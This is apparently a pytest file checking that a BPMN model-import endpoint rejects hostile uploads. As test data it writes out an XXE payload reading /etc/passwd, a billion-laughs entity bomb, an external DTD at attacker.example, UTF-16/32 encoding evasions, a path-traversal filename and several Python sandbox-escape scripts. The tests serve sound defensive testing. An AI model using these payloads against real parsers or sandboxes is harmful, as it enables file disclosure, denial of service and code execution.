"""Hostile uploads to POST /api/v1/models/import: each refused with a message naming ``file`` (or the element),
before any XML parser reads it where the danger is in the XML itself, and nothing stored."""

from __future__ import annotations

import codecs
import io

import pytest
from sqlalchemy import func, select

from services.db import db
from services.models import AccessLog, ModelDraft, ProcessModel
from tests.api.conftest import Api, error_message, fields
from tests.studio.conftest import REFERRAL, import_xml

DTD_REFUSED = "DOCTYPE and ENTITY declarations are not allowed"
XXE = ('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       '<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">&xxe;</definitions>')
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
          + ']><definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">&lol9;</definitions>')
EXTERNAL_DTD = ('<?xml version="1.0"?><!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">'
                '<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>')


def _stored() -> tuple[int, int]:
    return (db.session.scalar(select(func.count()).select_from(ModelDraft)) or 0,
            db.session.scalar(select(func.count()).select_from(ProcessModel)) or 0)


def _utf16(text: str) -> bytes:
    return codecs.BOM_UTF16_LE + text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')\
        .encode("utf-16-le")


@pytest.mark.parametrize(("body", "says"), [
    (XXE.encode(), DTD_REFUSED),
    (LAUGHS.encode(), DTD_REFUSED),
    (EXTERNAL_DTD.encode(), DTD_REFUSED),
    (_utf16(XXE), DTD_REFUSED),  # a byte search for "<!DOCTYPE" finds nothing in UTF-16
    (XXE.encode("utf-32"), DTD_REFUSED),
    (XXE.replace('version="1.0"?>', 'version="1.0" encoding="UTF-16BE"?>', 1).encode("utf-16-be"), DTD_REFUSED),
    (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', "expected a BPMN 2.0"),
    (b'<definitions xmlns="http://example.com/not-bpmn"/>', "expected a BPMN 2.0"),
    (b"<definitions", "not well-formed XML"),
    (b'{"not": "xml"}', "not well-formed XML"),
], ids=["xxe", "billion-laughs", "external-dtd", "utf16-doctype", "utf32-doctype", "utf16be-declared", "html-root",
        "foreign-namespace", "truncated", "json"])
def test_hostile_xml_is_refused_naming_file_and_nothing_is_stored(api: Api, body: bytes, says: str) -> None:
    before = _stored()
    refused = import_xml(api, body, filename="evil.bpmn")
    assert fields(refused) == ["file"]
    assert says in refused.get_json()["error"]["errors"][0]["message"]
    assert "root:" not in refused.get_data(as_text=True)  # /etc/passwd never read
    assert _stored() == before


def test_a_20_mb_body_is_refused_413_by_its_length_before_it_is_read(api: Api) -> None:
    before = _stored()
    body = b"<definitions>" + b" " * (20 * 1024 * 1024) + b"</definitions>"
    refused = import_xml(api, body, filename="huge.bpmn")
    assert "larger than 5 MB" in error_message(refused, 413)
    assert _stored() == before


def test_a_multipart_upload_is_read_from_its_file_field(api: Api) -> None:
    upload = {"file": (io.BytesIO(REFERRAL.encode()), "referral.bpmn")}
    imported = api.client.post("/api/v1/models/import?key=mappa_referral", data=upload,
                               headers=api.headers("owner"), content_type="multipart/form-data")
    assert imported.status_code == 201, imported.get_data(as_text=True)
    assert sorted(imported.get_json()["draft"]["files"]) == ["level_suggestion.dmn", "referral.bpmn"]
    missing = api.client.post("/api/v1/models/import", data={"other": "x"}, headers=api.headers("owner"),
                              content_type="multipart/form-data")
    assert fields(missing) == ["file"]


def test_only_bpmn_and_dmn_file_names_are_accepted(api: Api) -> None:
    refused = import_xml(api, REFERRAL, filename="referral.exe")
    assert fields(refused) == ["file"]
    assert "not a .bpmn or .dmn file" in refused.get_json()["error"]["errors"][0]["message"]
    traversal = import_xml(api, REFERRAL, key="mappa_referral", filename="../../etc/referral.bpmn")
    assert sorted(traversal.get_json()["draft"]["files"]) == ["level_suggestion.dmn", "referral.bpmn"]  # base name


@pytest.mark.parametrize(("script", "says"), [
    ("import os\nstatus = os.listdir('/')", "imports os"),
    ("from subprocess import run\nstatus = 'x'", "imports subprocess"),
    ("status = ().__class__.__base__.__subclasses__()", "does not compile under the sandbox"),
    ("status = 'x' * (1024 * 1024 * 1024)", "builds a value of 1,073,741,824"),
    ("status = eval('1')", "Eval calls are not allowed"),
    ("status = getattr(1, 'real')", "calls getattr()"),
], ids=["import-os", "from-import", "dunder-escape", "gigabyte-string", "eval", "getattr"])
def test_a_script_the_sandbox_refuses_is_refused_naming_its_task(api: Api, script: str, says: str) -> None:
    before = _stored()
    xml = REFERRAL.replace('<bpmn:script>status = "screening"</bpmn:script>',
                           f"<bpmn:script>{script.replace('<', '&lt;')}</bpmn:script>")
    refused = import_xml(api, xml, key="mappa_referral", filename="referral.bpmn")
    assert fields(refused) == ["start_screening"]
    assert says in refused.get_json()["error"]["errors"][0]["message"]
    assert _stored() == before


def test_a_condition_calling_an_unknown_function_names_its_flow(api: Api) -> None:
    xml = REFERRAL.replace('referral_complete == "yes"', 'open("/etc/passwd") == "yes"')
    assert fields(import_xml(api, xml, key="mappa_referral", filename="referral.bpmn")) == ["f_complete"]


def test_refusals_are_logged_but_nothing_is_imported(api: Api) -> None:
    import_xml(api, XXE, filename="evil.bpmn")
    events = set(db.session.scalars(select(AccessLog.event)))
    assert "model_imported" not in events
